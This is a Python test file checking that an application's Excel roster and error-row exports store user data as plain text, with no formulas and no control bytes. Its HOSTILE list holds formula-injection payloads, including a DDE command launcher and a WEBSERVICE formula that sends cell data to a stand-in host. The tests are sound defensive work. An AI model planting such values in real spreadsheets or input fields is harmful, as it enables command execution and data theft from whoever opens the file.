"""Issue 13, items 1 and 7: every export writes text as text — no formula from user data, no illegal byte."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

from app.db.database import Database
from app.excel.exporter import write_error_rows, write_roster
from app.services import roster, roster_excel

HOSTILE = [
    "=cmd|'/C calc'!A0",
    '=WEBSERVICE("http://x.invalid/?"&E3)',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as zf:
        return zf.read("xl/worksheets/sheet1.xml").decode("utf-8")


def test_roster_export_writes_no_formula(demo_copy: Database, tmp_path: Path) -> None:
    members = roster.list_members(demo_copy)
    roster.set_fields(demo_copy, members[0].id, {"家庭住址": HOSTILE[0], "工作岗位": HOSTILE[1]})
    dest = tmp_path / "花名册.xlsx"
    roster_excel.export_roster(demo_copy, dest, kind="full")
    xml = _sheet_xml(dest)
    assert "<f>" not in xml and "<f " not in xml
    assert "cmd|" in xml and "WEBSERVICE" in xml  # kept, as text


def test_every_leading_character_stays_text(tmp_path: Path) -> None:
    dest = tmp_path / "x.xlsx"
    write_roster(dest, "=title", (("name", "姓名"), ("address", "家庭住址")), [["张三", v] for v in HOSTILE])
    xml = _sheet_xml(dest)
    assert not re.search(r"<f[ >]", xml)
    import openpyxl

    ws = openpyxl.load_workbook(dest).active
    assert ws is not None
    read = [ws.cell(r, 2).value for r in range(3, 3 + len(HOSTILE))]
    assert read[:-1] == HOSTILE[:-1] and read[-1] in ("\r=1", "\n=1")  # XML reads CR back as LF
    assert ws.cell(1, 1).value == "=title" and ws.cell(1, 1).data_type == "s"


def test_error_rows_file_writes_no_formula(tmp_path: Path) -> None:
    dest = tmp_path / "错误行.xlsx"
    write_error_rows(dest, ["姓名", "家庭住址"], [(["张三", h], 3, "=原因") for h in HOSTILE], text_column=0)
    assert not re.search(r"<f[ >]", _sheet_xml(dest))


def test_control_characters_do_not_break_the_export(tmp_path: Path) -> None:
    dest = tmp_path / "x.xlsx"
    write_roster(dest, "t", (("name", "姓名"), ("address", "家庭住址")), [["张三", "幸福\x07路\x1b1号"]])
    import openpyxl

    ws = openpyxl.load_workbook(dest).active
    assert ws is not None and ws.cell(3, 2).value == "幸福路1号"


def test_every_export_goes_through_the_one_cell_writer() -> None:
    """Future exports too: only app/excel/writer.py makes cells, only app/excel/exporter.py makes workbooks,
    and the exporter appends only rows of the writer's cells."""
    root = Path(__file__).resolve().parents[2]
    for path in list((root / "app").rglob("*.py")) + list((root / "ui").rglob("*.py")):
        text = path.read_text(encoding="utf-8")
        name = path.relative_to(root).as_posix()
        if "WriteOnlyCell" in text:
            assert name == "app/excel/writer.py", name
        if re.search(r"\bWorkbook\(", text):
            assert name == "app/excel/exporter.py", name
    exporter = (root / "app/excel/exporter.py").read_text(encoding="utf-8")
    for line in exporter.splitlines():
        if "ws.append(" in line:
            assert re.search(r"ws\.append\((writer\.row\(|\[title_cell\]|header\)|out\))", line), line
    assert "ws.cell(" not in exporter and ".value =" not in exporter
